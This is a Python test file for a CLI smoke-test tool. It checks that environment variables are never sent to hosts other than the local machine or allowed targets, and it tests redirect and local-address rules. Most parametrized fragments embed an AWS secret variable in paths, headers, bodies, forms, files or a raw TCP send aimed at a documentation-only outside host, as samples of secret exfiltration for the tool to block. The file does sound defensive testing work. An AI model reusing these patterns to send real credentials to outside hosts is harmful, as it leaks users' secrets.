"""Variables of the environment reach this machine, or a host that the manifest allows, and nothing else."""

import socket
from pathlib import Path

import pytest

from tests.support.runner import run_toombos
from toombos_cli.manifest.tables.service import Service
from toombos_cli.probes import is_this_machine
from toombos_cli.smoke.links import RedirectRule

HEAD = '[services.api]\ncommand = ["sleep", "9"]\nport = 7999\nhost = "{host}"\n'
STEP = '[[smoke]]\nname = "steal"\nservice = "api"\nwrites = false\n'
ELSEWHERE = "192.0.2.7"  # reserved for documentation: no packet to it arrives anywhere

WAYS = {
    "in the path": 'path = "/x/${env.AWS_SECRET}"\n',
    "in a header": 'path = "/x"\nheaders = { X-Key = "${env.AWS_SECRET}" }\n',
    "in part of a header": 'path = "/x"\nheaders = { Authorization = "Bearer ${env.AWS_SECRET}" }\n',
    "in a body": 'path = "/x"\nmethod = "POST"\nbody = { deep = [{ key = "a${env.AWS_SECRET}" }] }\n',
    "in a text body": 'path = "/x"\nmethod = "POST"\nraw = "${env.AWS_SECRET}"\n',
    "in a form": 'path = "/x"\nmethod = "POST"\nform = { key = ["a", "${env.AWS_SECRET}"] }\n',
    "in a file": 'path = "/x"\nmethod = "POST"\nfiles = { a = { content = "${env.AWS_SECRET}" } }\n',
    "in the name of a header": 'path = "/x"\nheaders = { "${env.AWS_SECRET}" = "1" }\n',
    "in a counter": (
        'path = "/x"\ncounters = [{ service = "api", path = "/${env.AWS_SECRET}", json = "a", rises_by = 1 }]\n'
    ),
    "in the condition of a cleanup": (
        'path = "/x"\ncleanup = { path = "/x", if_at_start = { path = "/${env.AWS_SECRET}", json = {} } }\n'
    ),
    "as a link": 'path = "${env.AWS_SECRET}"\n',
    "in a cleanup": 'path = "/x"\ncleanup = { path = "/x/${env.AWS_SECRET}" }\n',
    "in the step that proves dry-run mode": 'path = "/x/${env.AWS_SECRET}"\nproves_dry_run = true\n',
}


def smoke(project: Path, manifest: str, *options: str):
    (project / "toombos.toml").write_text(manifest)
    return run_toombos("smoke", "--allow-live", *options, cwd=project, env={"AWS_SECRET": "aws-secret-of-the-victim-7"})


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
def test_a_variable_is_not_sent_to_another_machine(way: str, tmp_path: Path) -> None:
    done = smoke(tmp_path, HEAD.format(host=ELSEWHERE) + STEP + way)

    assert done.returncode == 5
    assert "AWS_SECRET" in done.stderr
    assert ELSEWHERE in done.stderr
    assert "aws-secret-of-the-victim-7" not in done.stdout + done.stderr


ALLOWED = {
    "the manifest allows the host": HEAD.format(host=ELSEWHERE)
    + f'[load]\nallowed_targets = ["{ELSEWHERE}"]\n'
    + STEP
    + WAYS["in a header"],
    "the host is this machine": HEAD.format(host="127.0.0.1") + STEP + WAYS["in a header"],
    "the variable is not set": HEAD.format(host=ELSEWHERE) + STEP + 'path = "/${env.AWS_OTHER_SECRET}"\n',
    "the variable is only compared": HEAD.format(host=ELSEWHERE)
    + STEP
    + 'path = "/"\njson = { a = "${env.AWS_SECRET}" }\n',
}


@pytest.mark.parametrize("manifest", ALLOWED.values(), ids=ALLOWED)
def test_a_step_is_not_refused_if(manifest: str, tmp_path: Path) -> None:
    assert smoke(tmp_path, manifest.replace('path = "', 'timeout_s = 0.3\npath = "')).returncode != 5


def test_a_variable_is_not_sent_to_the_other_machine_of_a_counter(tmp_path: Path) -> None:
    near, far = HEAD.format(host="127.0.0.1"), HEAD.format(host=ELSEWHERE).replace("services.api", "services.far")
    counter = 'path = "/x"\ncounters = [{ service = "far", path = "/${env.AWS_SECRET}", json = "a", rises_by = 1 }]\n'

    done = smoke(tmp_path, near + far + STEP + counter)

    assert done.returncode == 5
    assert f"AWS_SECRET to {ELSEWHERE}" in done.stderr


@pytest.mark.parametrize(
    "ask",
    [
        pytest.param('service = "far"\npath = "/x"\n', id="in a step"),
        pytest.param(
            'service = "api"\npath = "/x"\ncounters = [{ service = "far", path = "/x", json = "a", rises_by = 1 }]\n',
            id="in a counter",
        ),
    ],
)
def test_a_variable_in_the_headers_of_a_service_is_not_sent_to_another_machine(ask: str, tmp_path: Path) -> None:
    far = HEAD.format(host=ELSEWHERE).replace("services.api", "services.far").replace("7999", "7998")
    far += 'headers = { X-Key = "${env.AWS_SECRET}" }\n'
    step = '[[smoke]]\nname = "steal"\nwrites = false\n'

    done = smoke(tmp_path, HEAD.format(host="127.0.0.1") + far + step + ask)

    assert done.returncode == 5
    assert f"AWS_SECRET to {ELSEWHERE}" in done.stderr


def test_a_variable_is_not_sent_over_tcp_to_another_machine(tmp_path: Path) -> None:
    head = HEAD.format(host=ELSEWHERE) + 'scheme = "tcp"\n'

    assert smoke(tmp_path, head + STEP + 'send = "AUTH ${env.AWS_SECRET}"\n').returncode == 5


SERVICES = {
    name: Service(name=name, command=("unused",), host=host, port=80)
    for name, host in (("near", "127.0.0.1"), ("far", ELSEWHERE))
}
# URL, whether the step sends variables, allowed targets, followed
REDIRECTS = {
    "to another name of this machine": ("http://localhost/x", True, (), True),
    "to the IPv6 address of this machine": ("http://[::1]/x", True, (), True),
    "to itself": ("http://127.0.0.1/x", True, (), True),
    "to another service without a secret": (f"http://{ELSEWHERE}/x", False, (), True),
    "to another machine with a secret": (f"http://{ELSEWHERE}/x", True, (), False),
    "to a machine that may have it": (f"http://{ELSEWHERE}/x", True, (ELSEWHERE,), True),
    "to no service": ("http://example.com/x", False, ("example.com",), False),
    "to another port": ("http://127.0.0.1:81/x", False, (), False),
    "to another scheme": ("https://127.0.0.1:80/x", False, (), False),
    "to a port that is none": ("http://127.0.0.1:x/", False, (), False),
}


@pytest.mark.parametrize(("url", "sends", "allowed", "followed"), REDIRECTS.values(), ids=REDIRECTS)
def test_a_redirect_is_followed_only(url: str, sends: bool, allowed: tuple[str, ...], followed: bool) -> None:
    assert RedirectRule(SERVICES, sends_variables=sends, allowed=allowed)(url) is followed


ADDRESSES = {
    "127.0.0.1": True,
    "127.8.9.10": True,
    "::1": True,
    "localhost": True,
    "0.0.0.0": True,
    ELSEWHERE: False,
    "8.8.8.8": False,
    "2001:db8::7": False,
    "no-such-host.invalid": False,
}


@pytest.mark.parametrize(("host", "here"), ADDRESSES.items(), ids=ADDRESSES)
def test_an_address_is_of_this_machine_or_not(host: str, here: bool) -> None:
    assert is_this_machine(host) is here


@pytest.mark.parametrize("name", ["localhost", "app.localhost", "my-loopback"])
def test_a_name_that_is_resolved_to_another_machine_counts_as_elsewhere(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    answers = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, 0)) for address in ("127.0.0.1", ELSEWHERE)]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_args, **_kwargs: answers)

    assert is_this_machine(name) is False
